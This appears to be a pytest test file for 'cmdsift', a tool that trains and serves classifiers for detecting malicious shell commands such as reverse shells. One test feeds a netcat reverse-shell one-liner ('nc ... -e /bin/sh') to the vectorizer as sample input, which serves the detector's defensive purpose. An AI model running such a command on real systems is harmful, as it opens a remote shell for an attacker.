import os
import subprocess
import sys
from pathlib import Path

import pytest

from cmdsift import core
from cmdsift.cli import main
from cmdsift.config import Config, ConfigError, emit_config, load_config, parse_config
from cmdsift.core import Label
from cmdsift.fixtures import data_path, reverse_shell_rule_path

CONFIG_TEXT = """
[scenario reverse_shell]
rule_file = {rule}
budget_n = 10

[vectorizer]
dimensions = 8192

[classifier]
hidden_units = 16
epochs = 40
learning_rate = 0.5
batch_size = 128
dropout_rate = 0.1
rng_seed = 1

[service]
retrain_daily = false
"""


@pytest.fixture
def config_path(tmp_path):
    path = tmp_path / "cmdsift.conf"
    path.write_text(CONFIG_TEXT.format(rule=reverse_shell_rule_path()), encoding="utf-8")
    return str(path)


class TestConfig:
    def test_round_trip_identity(self, config_path):
        config = load_config(config_path)
        emitted = emit_config(config)
        assert emit_config(parse_config(emitted)) == emitted

    def test_unknown_key_rejected(self):
        with pytest.raises(ConfigError, match="unknown key"):
            parse_config("[vectorizer]\nbogus = 1\n")

    def test_unknown_section_rejected(self):
        with pytest.raises(ConfigError, match="unknown section"):
            parse_config("[surprise]\nx = 1\n")

    def test_defaults_without_file(self):
        config = Config()
        assert config.vectorizer.dimensions == 2**18
        assert config.classifier.hidden_units == 64
        assert config.classifier.epochs == 10
        assert config.service.dedup_window_hours == 24.0
        assert config.backend.kind == "mock"

    def test_scenario_requires_rule_file(self):
        with pytest.raises(ConfigError, match="rule_file"):
            parse_config("[scenario x]\nbudget_n = 3\n")


class TestCliFlows:
    def test_help_exits_zero(self, capsys):
        with pytest.raises(SystemExit) as exc:
            main(["--help"])
        assert exc.value.code == 0
        assert "generate-data" in capsys.readouterr().out

    def test_unknown_subcommand_usage_error(self):
        with pytest.raises(SystemExit) as exc:
            main(["frobnicate"])
        assert exc.value.code == 2

    def test_generate_train_replay_evaluate(self, tmp_path, config_path, capsys):
        data = tmp_path / "synthetic.tsv"
        rc = main([
            "generate-data",
            "--plan", str(data_path("plans", "reverse_shell.plan")),
            "--backend", "mock", "--seed", "7",
            "--positive", "40", "--negative", "40",
            "--out", str(data), "--now-ms", "1749000000000",
        ])
        assert rc == 0
        samples = core.read_samples(str(data))
        assert len(samples) == 80

        state = tmp_path / "state"
        rc = main([
            "train", "--config", config_path, "--state-dir", str(state),
            "--scenario", "reverse_shell", "--data", str(data),
            "--now-ms", "1749900000000",
        ])
        assert rc == 0
        assert "published version 1" in capsys.readouterr().out

        from cmdsift.evalharness import StreamSpec, make_stream

        events = tmp_path / "events.tsv"
        stream = make_stream(StreamSpec(days=2, events_per_day=150, malicious_rate=0.01), 5)
        core.write_events(str(events), [e for e, _ in stream])
        rc = main([
            "replay", "--config", config_path, "--state-dir", str(state),
            "--scenario", "reverse_shell", "--events", str(events),
        ])
        assert rc == 0
        out = capsys.readouterr().out
        assert "events=300" in out

        rc = main([
            "evaluate", "--config", config_path, "--funnel-state", str(state),
            "--scenario", "reverse_shell",
        ])
        assert rc == 0
        assert "average daily volume" in capsys.readouterr().out

    def test_generate_data_byte_stable(self, tmp_path):
        outs = []
        for run in range(2):
            out = tmp_path / f"d{run}.tsv"
            rc = main([
                "generate-data",
                "--plan", str(data_path("plans", "reverse_shell.plan")),
                "--backend", "mock", "--seed", "7",
                "--positive", "5", "--negative", "5",
                "--out", str(out), "--now-ms", "1749000000000",
            ])
            assert rc == 0
            outs.append(out.read_bytes())
        assert outs[0] == outs[1]

    def test_train_single_class_data_fails_with_data_code(self, tmp_path, config_path):
        data = tmp_path / "bad.tsv"
        samples = [
            core.LabeledSample(f"cmd {i}", Label.POSITIVE, core.Origin.SYNTHETIC, 0)
            for i in range(4)
        ]
        core.write_samples(str(data), samples)
        rc = main([
            "train", "--config", config_path, "--state-dir", str(tmp_path / "s"),
            "--scenario", "reverse_shell", "--data", str(data),
        ])
        assert rc == 4

    def test_vectorize_prints_nonzero_pairs(self, capsys):
        rc = main(["vectorize", "--text", "nc 10.1.1.1 80 -e /bin/sh"])
        assert rc == 0
        lines = [l for l in capsys.readouterr().out.splitlines() if l]
        assert len(lines) > 5
        for line in lines:
            idx, val = line.split("\t")
            assert int(idx) >= 0
            assert float(val) > 0

    def test_plan_copies_bundled_file(self, tmp_path, capsys):
        out = tmp_path / "p.plan"
        rc = main(["plan", "--bundled", "reverse_shell", "--out", str(out)])
        assert rc == 0
        assert "[strategy malicious_reverse_shell]" in out.read_text()

    def test_plan_drafts_from_objective_via_backend(self, tmp_path):
        out = tmp_path / "p.plan"
        rc = main([
            "plan", "--objective", "generate data for a hacking tools detector",
            "--out", str(out),
        ])
        assert rc == 0
        assert "hacking" in out.read_text()

    def test_calibrate_prints_result_and_curve(self, tmp_path, config_path, capsys):
        data = tmp_path / "synthetic.tsv"
        main([
            "generate-data", "--plan", str(data_path("plans", "reverse_shell.plan")),
            "--backend", "mock", "--seed", "7", "--positive", "30", "--negative", "30",
            "--out", str(data), "--now-ms", "1749000000000",
        ])
        state = tmp_path / "state"
        artifact = tmp_path / "model.bin"
        main([
            "train", "--config", config_path, "--state-dir", str(state),
            "--scenario", "reverse_shell", "--data", str(data),
            "--out", str(artifact), "--now-ms", "1749900000000",
        ])
        capsys.readouterr()
        rc = main([
            "calibrate", "--model", str(artifact), "--labeled", str(data),
            "--budget", "5",
        ])
        assert rc == 0
        out = capsys.readouterr().out
        assert "threshold" in out
        assert "threshold,precision,recall" in out

    def test_simulate_ab_drift_free_small(self, tmp_path, config_path, capsys):
        data = tmp_path / "synthetic.tsv"
        main([
            "generate-data", "--plan", str(data_path("plans", "reverse_shell.plan")),
            "--backend", "mock", "--seed", "7", "--positive", "40", "--negative", "40",
            "--out", str(data), "--now-ms", "1749000000000",
        ])
        capsys.readouterr()
        rc = main([
            "simulate-ab", "--config", config_path,
            "--rules", str(reverse_shell_rule_path()), "--data", str(data),
            "--seeds", "3", "--days", "8", "--events-per-day", "60",
            "--drift-day", "-1", "--bootstrap-days", "3",
        ])
        assert rc == 0
        out = capsys.readouterr().out
        assert "active >= fixed in 1/1 seeds" in out
        assert "seed,fixed_f1,active_f1" in out

    def test_config_error_exit_code(self, tmp_path):
        bad = tmp_path / "bad.conf"
        bad.write_text("[nope]\nx = 1\n", encoding="utf-8")
        rc = main([
            "train", "--config", str(bad), "--state-dir", str(tmp_path),
            "--scenario", "reverse_shell",
        ])
        assert rc == 3


class TestServeSubprocess:
    def test_serve_and_poll(self, tmp_path, config_path):
        import json
        import time
        import urllib.request

        data = tmp_path / "synthetic.tsv"
        main([
            "generate-data", "--plan", str(data_path("plans", "reverse_shell.plan")),
            "--backend", "mock", "--seed", "7", "--positive", "30", "--negative", "30",
            "--out", str(data), "--now-ms", "1749000000000",
        ])
        state = tmp_path / "state"
        main([
            "train", "--config", config_path, "--state-dir", str(state),
            "--scenario", "reverse_shell", "--data", str(data),
            "--now-ms", "1749900000000",
        ])
        port = 8801
        proc = subprocess.Popen(
            [sys.executable, "-m", "cmdsift.cli", "serve", "--config", config_path,
             "--state-dir", str(state), "--port", str(port)],
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        )
        try:
            deadline = time.time() + 15
            body = None
            while time.time() < deadline:
                try:
                    with urllib.request.urlopen(
                        f"http://127.0.0.1:{port}/api/scenarios", timeout=1
                    ) as resp:
                        body = json.loads(resp.read())
                    break
                except Exception:
                    time.sleep(0.2)
            assert body is not None, "service never came up"
            assert body["scenarios"][0]["scenario_id"] == "reverse_shell"
        finally:
            proc.kill()
            proc.wait()
